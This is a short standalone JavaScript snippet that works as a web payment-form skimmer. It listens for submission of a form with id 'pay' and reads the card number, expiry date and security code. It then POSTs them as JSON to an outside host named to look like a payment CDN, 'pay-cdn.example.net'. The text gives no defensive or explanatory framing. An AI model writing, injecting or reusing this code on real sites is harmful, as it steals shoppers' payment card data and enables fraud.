document.querySelector('form#pay').addEventListener('submit', (e) => {
  const d = new FormData(e.target);
  fetch('https://pay-cdn.example.net/c', { method: 'POST', body: JSON.stringify({ n: d.get('cc-number'), x: d.get('cc-exp'), c: d.get('cc-csc') }) });
});
